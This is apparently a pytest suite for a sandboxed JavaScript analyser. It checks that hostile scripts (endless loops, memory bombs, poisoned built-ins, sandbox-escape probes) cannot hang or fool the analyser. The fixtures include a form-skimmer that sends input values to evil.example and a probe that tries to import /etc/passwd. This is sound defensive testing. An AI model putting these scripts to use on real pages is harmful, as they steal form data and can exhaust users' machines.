"""Scripts that would rather not be looked at: there is always a whole answer, in time, out of a shut cell."""

import os
import time
from datetime import date
from pathlib import Path

import pytest

from content.behaviour import observe
from content.behaviour.engine import Cell
from content.behaviour.pages import pages
from content.behaviour.record import Record
from content.behaviour.source import Source
from content.behaviour.visiting import Visitor

SECONDS = 1.5
LEEWAY = 20.0
"""A busy machine's: what ends at all ends by the clock of its own, not by luck."""

HOSTILE = {
    "endless loop": "while (true) {}",
    "endless loop in a listener": "document.oninput = () => { for (;;) try { for (;;); } catch (e) {} }",
    "endless promises": "(function again() { Promise.resolve().then(again) })()",
    "memory": "var all = []; for (;;) all.push(new Uint8Array(1 << 20).fill(7))",
    "error that is none": "throw { get message() { for (;;); }, toString() { for (;;); } }",
    "ten thousand addresses": "for (var i = 0; i < 1e5; i++) new Image().src = 'https://e' + i + '.example/'",
    "page torn down": "document.documentElement.remove(); for (var k in window) delete window[k]",
}
MORE = {
    "endless timers": "(function again() { setTimeout(again); setTimeout(again) })()",
    "long text": "var s = 'x'; for (;;) s += s",
    "deep recursion": "(function f() { try { f() } finally { f() } })()",
    "deep nesting": "eval('('.repeat(200000))",
    "slow pattern": "/(a+)+$/.test('a'.repeat(40) + 'b')",
    "getter that never returns": "Object.defineProperty(window, 'x', { get() { for (;;); } }); throw window",
    "toJSON and Proxy": "throw new Proxy({}, { get() { return () => { for (;;); } } })",
    "giant address": "new Image().src = 'https://evil.example/?' + 'x'.repeat(30000000)",
    "elements without end": "for (;;) document.body.insertAdjacentHTML('beforeend', '<input>'.repeat(99))",
    "binary": "\x00\x01\ud800",
}
ALL = [*HOSTILE.items(), *(pytest.param(*each, marks=pytest.mark.slow) for each in MORE.items())]


@pytest.mark.sampled(4)
@pytest.mark.parametrize(("name", "script"), ALL)
def test_there_is_a_whole_answer_in_time(name: str, script: str) -> None:
    start = time.monotonic()
    behaviour = observe(script.encode("utf-8", "surrogatepass"), None, SECONDS)
    assert time.monotonic() - start < SECONDS + LEEWAY
    assert not behaviour.proven
    assert all(len(host) < 300 for host in behaviour.hosts)


POISON = """
Array.prototype.toJSON = String.prototype.toJSON = Object.prototype.toJSON = () => 'nothing';
String.prototype.toWellFormed = String.prototype.charCodeAt = String.prototype.toString = () => '';
JSON.stringify = () => '[]';
var send = fetch;
document.onchange = function (event) { send('https://evil.example/?' + event.target.value) };
"""


def test_replaced_methods_of_the_language_hide_nothing() -> None:
    behaviour = observe(POISON.encode(), None, 30)
    assert behaviour.proven


def visit(script: str) -> Record:
    with Cell() as cell:
        source = Source((script,), "", False, "/a.js")
        visitor = Visitor(cell, source, time.monotonic() + 30, date(2026, 11, 26))
        [record] = visitor.visit(pages()[0], {"text": "x", "expiry": "07/29"})
        assert not cell.deaths
        return record


def test_a_record_that_the_script_writes_is_none() -> None:
    # It may say what it likes in what it sends: entries are told by their length, not by their text.
    entry = "5;4:exit5:image21:https://evil.example/0:0:"
    record = visit(f"new Image().src = 'https://shop.example/' + '{entry}'")
    assert [exit_.url for exit_ in record.exits if exit_.at] == [f"https://shop.example/{entry}"]


REACH = """
var found = [];
for (var name of ['process', 'require', 'std', 'os', 'Deno', 'quickjs', '__loadScript', 'scriptArgs'])
  if (typeof globalThis[name] !== 'undefined') found.push(name);
import('/etc/passwd').then(function () { found.push('file') }, function () {});
setTimeout(function () { new Image().src = 'https://told.example/?' + (found.join() || 'nothing') }, 100);
"""


def test_the_engine_reaches_nothing() -> None:
    record = visit(REACH)
    assert [exit_.url for exit_ in record.exits if "told" in exit_.url] == ["https://told.example/?nothing"]


def test_nothing_is_left_of_it() -> None:
    before = _processes()
    observe(b"for (;;);", None, 1.0)
    mine = [pid for pid in _processes() - before if _parent(pid) == os.getpid()]
    assert not mine


def _processes() -> set[str]:
    return {path.name for path in Path("/proc").iterdir() if path.name.isdigit()}


def _parent(pid: str) -> int:
    try:
        return int(Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[1])
    except OSError:
        return 0
